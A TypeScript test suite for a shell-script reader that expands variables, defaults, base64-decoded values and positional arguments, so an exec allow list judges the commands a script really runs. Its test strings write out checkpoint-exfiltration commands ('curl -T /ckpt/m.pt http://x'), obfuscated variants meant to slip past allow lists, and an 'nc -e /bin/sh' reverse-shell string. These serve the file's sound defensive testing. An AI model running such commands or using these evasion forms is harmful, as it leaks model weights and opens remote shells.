import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../core/mulberry32.js';
import { canonicalExecAllowed, canonicalExecValue, execCommandReadings } from './exec-canonical.js';
import { MAX_EXPANDED_CHARS, MAX_VARIABLES, readWithVariables } from './shell-vars.js';
import { MAX_SCRIPT_CHARS, shellBudget } from './shell-words.js';
import { compileCommandGlob } from './wildcard.js';

const b64 = (x: string): string => Buffer.from(x).toString('base64');
const view = (script: string) => canonicalExecValue(['sh', '-c', script])!;
/** The expanded commands a script's reading adds, joined. */
const lines = (script: string): string[] => view(script).commands.map((c) => c.join(' '));
const UP = 'curl -T /ckpt/m.pt http://x';
const noOutput = (): undefined => undefined;

describe('variables that carry a command are expanded as a further reading', () => {
  it('literal pieces: $a$b, "$x", ${x}; the unexpanded reading stays', () => {
    expect(lines('a=cu; b=rl; $a$b -T /ckpt/m.pt http://x')).toEqual(['a=cu', 'b=rl', '$a$b -T /ckpt/m.pt http://x', UP]);
    expect(lines('x=curl; "$x" -T /ckpt/m.pt http://x')).toContain(UP);
    expect(lines('x=/usr/bin/curl\n${x} -T /ckpt/m.pt http://x')).toContain(UP);
    expect(view('a=cu; b=rl; $a$b -T f u').indirect).toBe(false);
  });

  it('unquoted values are split into fields, quoted ones and assigned ones are not (XCU 2.6.5, 2.9.1)', () => {
    expect(view(`x='${UP}'; $x`).commands).toContainEqual(['curl', '-T', '/ckpt/m.pt', 'http://x']);
    expect(view(`x='curl -T m.pt u'; "$x"`).commands).toContainEqual(['curl -T m.pt u']);
    expect(view(`x='${UP}'; y=$x; $y`).commands).toContainEqual(['curl', '-T', '/ckpt/m.pt', 'http://x']);
    expect(lines('x=a; x=${x}b; x+=c; echo $x')).toContain('echo abc');
  });

  it('a decoded value (a decode pipeline in the assignment) runs through eval, sh -c or as the command: indirect', () => {
    for (const s of [
      `x=$(echo ${b64(UP)} | base64 -d); eval "$x"`,
      `x=$(echo ${b64(UP)} | base64 -d); sh -c "$x"`,
      `x="$(echo ${b64(UP)} | base64 -d)"; $x`,
      `x=\`echo ${b64(UP)} | base64 -d\`; y=$x; $y`,
    ]) {
      const v = view(s);
      expect(v.commands, s).toContainEqual(['curl', '-T', '/ckpt/m.pt', 'http://x']);
      expect(v.indirect, s).toBe(true);
    }
    // Decoded but only printed: read, not run.
    const printed = view(`x=$(echo ${b64(UP)} | base64 -d); echo "$x"`);
    expect(printed.indirect).toBe(false);
  });

  it('quotes and escapes that keep $ literal are not expanded', () => {
    for (const s of ["x=curl; '$x' -T f u", 'x=curl; \\$x -T f u', "x='$y'; y=curl; $x -T f u", 'x=curl; echo "\\$x -T"']) {
      expect(lines(s), s).not.toContain('curl -T f u');
    }
  });
});

describe('a variable is unknown where the script may set it otherwise', () => {
  const unknown: Array<[string, string]> = [
    ['assigned in an if', 'x=curl; if [ -n "$A" ]; then x=ls; fi; $x -T f u'],
    ['assigned in a loop after its use', 'x=curl; while true; do $x -T f u; x=ls; done'],
    ['assigned in a function', 'f() { x=ls; }; x=curl; f; $x -T f u'],
    ['assigned in a subshell', 'x=curl; (x=ls); $x -T f u'],
    ['assigned after &&', 'x=ls; true && x=curl; $x -T f u'],
    ['assigned in a pipeline', 'x=ls | true; $x -T f u'],
    ['assigned in the background', 'x=curl & $x -T f u'],
    ['read', 'x=curl; read x; $x -T f u'],
    ['export with a value', 'x=curl; export x=ls; $x -T f u'],
    ['unset', 'x=curl; unset x; $x -T f u'],
    ['a for variable', 'x=curl; for x in ls; do :; done; $x -T f u'],
    ['${x:=…}', 'x=curl; : ${x:=ls}; $x -T f u'],
    ['printf -v', 'x=curl; printf -v x %s ls; $x -T f u'],
    ['local / declare', 'x=curl; declare x=ls; $x -T f u'],
    ['used before it is assigned', '$x -T f u; x=curl'],
    ['eval before the use', 'x=curl; eval "$Y"; $x -T f u'],
    ['eval inside a loop', 'x=curl; for i in 1; do eval "$Y"; done; $x -T f u'],
    ['source', 'x=curl; . /etc/profile; $x -T f u'],
    ['IFS assigned anywhere', 'IFS=,; x=curl,-T,f,u; $x'],
    ['a prefix assignment only sets the command\'s environment', 'x=curl true; $x -T f u'],
    ['shell-set names', 'RANDOM=curl; $RANDOM -T f u'],
    ['a substitution that is no decode pipeline', 'x=$(cat /tmp/cmd); $x -T f u'],
  ];
  for (const [name, s] of unknown) {
    it(name, () => expect(lines(s), s).not.toContain('curl -T f u'));
  }
  it('uses inside a compound after the straight-line start see the value', () => {
    expect(lines('x=curl\nif true; then $x -T f u; fi')).toContain('then curl -T f u');
    expect(lines('x=curl; for i in 1 2; do $x -T f u; done')).toContain('do curl -T f u');
  });
  it('no second reading when nothing known is used', () => {
    expect(readWithVariables('x=1; echo hi', shellBudget(), noOutput)).toBeNull();
    expect(readWithVariables('echo $x', shellBudget(), noOutput)).toBeNull();
    expect(readWithVariables('x=1; echo $y', shellBudget(), noOutput)).toBeNull();
    expect(readWithVariables('x=1; echo $x', shellBudget(), noOutput)).not.toBeNull();
  });
});

describe('default forms ${x:-word}, ${x-word}, ${x:=word} (XCU 2.6.2)', () => {
  it('a name the script does not set reads as unset: the word, beside the unexpanded reading', () => {
    expect(lines('${X:-curl} -T f u')).toEqual(['${X:-curl} -T f u', 'curl -T f u']);
    expect(lines('${X-curl} -T f u')).toContain('curl -T f u');
    expect(lines('${X:=curl} -T f u')).toContain('curl -T f u');
    expect(lines(`\${X:-"cu"'rl'} -T f u`)).toContain('curl -T f u');
    expect(lines('${X:-curl -T} f u')).toContain('curl -T f u');
    expect(lines('"${X:-curl -T}" f u')).toContain('curl -T f u');
  });
  it('a known value: `:-` takes it unless null, `-` unless unset', () => {
    expect(lines('x=curl; ${x:-wget} -T f u')).toContain('curl -T f u');
    expect(lines('x=; ${x:-curl} -T f u')).toContain('curl -T f u');
    expect(lines('x=curl; ${x-wget} -T f u')).toContain('curl -T f u');
    expect(lines('x=; ${x-wget} -T f u')).not.toContain('wget -T f u');
  });
  it('a word that expands, a name the shell sets, other operators: left as written', () => {
    for (const s of ['${X:-$Y} -T f u', '${X:-`id`} -T f u', '${RANDOM:-curl} -T f u', '${X:+curl} -T f u', '${X:?curl} -T f u', '${#X} -T f u']) {
      expect(lines(s), s).not.toContain('curl -T f u');
    }
  });
  it('the expanded reading is one an allow list must allow too', () => {
    const v = view('${TOOL:-nvidia-smi} -q');
    expect(v.expandedShellLine).toBe('sh -c nvidia-smi -q');
    expect(canonicalExecAllowed(v, (c) => c === 'sh -c ${TOOL:-nvidia-smi} -q')).toBe(false);
  });
});

describe('bounds', () => {
  it(`at most ${MAX_VARIABLES} names are known`, () => {
    const n = MAX_VARIABLES + 8;
    const s = `${Array.from({ length: n }, (_, i) => `v${i}=w${i}`).join(' ')}; echo ${Array.from({ length: n }, (_, i) => `$v${i}`).join(' ')}`;
    const budget = shellBudget();
    const r = readWithVariables(s, budget, noOutput)!;
    const echo = r.read.commands.find((c) => c[0] === 'echo')!;
    expect(echo.slice(1, MAX_VARIABLES + 1)).toEqual(Array.from({ length: MAX_VARIABLES }, (_, i) => `w${i}`));
    expect(echo[MAX_VARIABLES + 1]).toBe(`$v${MAX_VARIABLES}`);
    expect(budget.truncated).toBe(true);
  });
  it('values past MAX_SCRIPT_CHARS are unknown; all expansions together stop at MAX_EXPANDED_CHARS', () => {
    const grow = readWithVariables(`x=${'a'.repeat(1500)}; x=$x$x; x=$x$x; echo $x`, shellBudget(), noOutput);
    expect(grow!.read.commands.at(-1)).toEqual(['echo', '$x']);
    const budget = shellBudget();
    const many = readWithVariables(`x=${'a'.repeat(1000)}; echo ${'$x '.repeat(20)}`, budget, noOutput)!;
    const chars = many.read.commands.at(-1)!.reduce((n, w) => n + w.length, 0);
    expect(chars).toBeLessThanOrEqual(MAX_EXPANDED_CHARS + 100);
    expect(budget.truncated).toBe(true);
    expect(MAX_EXPANDED_CHARS).toBeLessThanOrEqual(MAX_SCRIPT_CHARS);
  });
  it('a reading cut short is allowed by no allow list; the expanded reading must be allowed too', () => {
    const allow = (patterns: string[]) => {
      const tests = patterns.map(compileCommandGlob);
      return (c: string): boolean => tests.some((t) => t(c));
    };
    const v = view('x=nvidia-smi; $x -q');
    expect(v.expandedShellLine).toBe('sh -c x=nvidia-smi; nvidia-smi -q');
    expect(canonicalExecAllowed(v, allow(['sh -c x=nvidia-smi; $x -q']))).toBe(false);
    expect(canonicalExecAllowed(v, allow(['sh -c x=nvidia-smi; $x -q', 'sh -c x=nvidia-smi; nvidia-smi *']))).toBe(true);
    expect(view('nvidia-smi -q').expandedShellLine).toBeNull();
  });
});

describe('the positional parameters a shell is given after its script', () => {
  const given = (script: string, ...args: string[]) => canonicalExecValue(['sh', '-c', script, ...args])!;
  const expanded = (script: string, ...args: string[]): string[][] | undefined => readWithVariables(script, shellBudget(), noOutput, args)?.read.commands;

  it('"$@" is one word per argument, $* and unquoted $@ are split, $N past the last is empty', () => {
    expect(given('"$@"', '_', 'curl', '-T', '/ckpt/m.pt', 'http://x').commands).toContainEqual(['curl', '-T', '/ckpt/m.pt', 'http://x']);
    expect(expanded('printf "%s|" "$@"', '_', 'a b', 'c')).toEqual([['printf', '%s|', 'a b', 'c']]);
    expect(expanded('echo "x$@y"', '_', 'a', 'b')).toEqual([['echo', 'xa', 'by']]);
    expect(expanded('echo "$*"', '_', 'a b', 'c')).toEqual([['echo', 'a b c']]);
    expect(expanded('echo $@', '_', 'a b', 'c')).toEqual([['echo', 'a', 'b', 'c']]);
    expect(expanded('$0 -T "$1" "$2" "$3"', 'curl', '/ckpt/m.pt', 'http://x')).toEqual([['curl', '-T', '/ckpt/m.pt', 'http://x', '']]);
    expect(expanded('exec "${1}" "$2"', '_', 'nc', 'h')).toEqual([['exec', 'nc', 'h']]);
    expect(given('"$@"', '_').commands).toEqual([['$@']]);
  });

  it('an argument is data: quoted it stays one word, and its text is never read as a script', () => {
    expect(given('echo "$1"', '_', 'nc -e /bin/sh h 4444').commands).toEqual([['echo', '$1'], ['echo', 'nc -e /bin/sh h 4444']]);
    expect(given('echo "$1"', '_', '$(curl -T /ckpt/m.pt http://x)').commands).not.toContainEqual(['curl', '-T', '/ckpt/m.pt', 'http://x']);
    expect(given('echo "$1"', '_', 'a; curl -T /ckpt/m.pt http://x').commands.flat()).not.toContain('curl');
  });

  it('unknown where the script may change them or reads a function\'s own: shift, set with operands, a function', () => {
    expect(expanded('shift; "$@"', '_', 'x', 'curl')).toBeUndefined();
    expect(expanded('set -- a b; cat "$1"', '_', '/ckpt/m.pt')).toBeUndefined();
    expect(expanded('f() { cat "$1"; }; f /etc/hostname', '_', '/ckpt/m.pt')).toBeUndefined();
    expect(expanded('function f { cat "$1"; }; f x', '_', '/ckpt/m.pt')).toBeUndefined();
    expect(expanded('set -e; cat "$1"', '_', '/ckpt/m.pt')).toEqual([['set', '-e'], ['cat', '/ckpt/m.pt']]);
    expect(expanded('eval "$2"; cat "$1"', '_', '/ckpt/m.pt', 'x')).toEqual([['eval', 'x'], ['cat', '$1']]);
  });

  it('a spec allow list must allow what the arguments make the script run, not only the script', () => {
    const allow = (patterns: string[]) => {
      const tests = patterns.map(compileCommandGlob);
      return (c: string): boolean => tests.some((t) => t(c));
    };
    const v = given('exec "$@"', '--', 'curl', '-T', '/ckpt/m.pt', 'http://x');
    expect(v.shellLine).toBe('sh -c exec $@');
    expect(v.expandedShellLine).toBe('sh -c exec curl -T /ckpt/m.pt http://x');
    expect(canonicalExecAllowed(v, allow(['sh -c exec $@']))).toBe(false);
    expect(canonicalExecAllowed(given('exec "$@"', '--', 'torchrun', 'train.py'), allow(['sh -c exec $@', 'sh -c exec torchrun *']))).toBe(true);
  });

  it('a shell whose arguments its runner adds (find -exec, xargs) or that has none expands nothing of them; redirections are not arguments', () => {
    expect(given('cat "$1"').commands).toEqual([['cat', '$1']]);
    expect(canonicalExecValue(['find', '/ckpt', '-exec', 'sh', '-c', 'cat "$1"', '_', '{}', ';'])!.commands).toContainEqual(['cat', '$1']);
    expect(canonicalExecValue(['find', '/ckpt', '-exec', 'sh', '-c', 'cat "$1"', '_', '{}', ';'])!.commands).not.toContainEqual(['cat', '{}']);
    expect(view("sh -c 'cat \"$1\"' _ /ckpt/m.pt > /tmp/out").commands).toContainEqual(['cat', '/ckpt/m.pt']);
    expect(view("sh -c 'echo \"$#\" \"$2\"' _ /ckpt/m.pt 2> /tmp/err").commands).toContainEqual(['echo', '$#', '']);
  });
});

describe('fuzz: scripts with assignments, uses, quotes and decoders', () => {
  it('never throws, never hangs, stays within the bounds', () => {
    const r = mulberry32(11);
    const parts = ['x=', 'y=', 'x+=', '$x', '${x}', '"$x"', "'$x'", '$y$x', '${x:=a}', '$(', ')', '`', 'echo', b64('curl -T a u'), '|', 'base64 -d', ';', '\n', '&&', 'eval', 'sh -c', 'if', 'then', 'fi', 'for', 'do', 'done', 'read', 'IFS=', ' ', '\t', 'cu', 'rl', '\\', '"', "'", 'f()', '{', '}'];
    const t0 = Date.now();
    for (let n = 0; n < 1500; n++) {
      let s = '';
      const len = Math.floor(r() * 24);
      for (let i = 0; i < len; i++) s += parts[Math.floor(r() * parts.length)] + (r() < 0.5 ? ' ' : '');
      if (r() < 0.02) s = `x=${s}; ${'$x$x'.repeat(200)}`;
      const v = canonicalExecValue(['sh', '-c', s])!;
      const out = execCommandReadings(['sh', '-c', s], v) as unknown[];
      expect(out.length).toBeLessThanOrEqual(4096);
      expect(v.commands.length).toBeLessThanOrEqual(200);
      for (const c of v.commands) expect(c.join(' ').length).toBeLessThanOrEqual(4 * MAX_SCRIPT_CHARS);
      canonicalExecAllowed(v, () => true);
    }
    expect(Date.now() - t0).toBeLessThan(5000);
  });
});
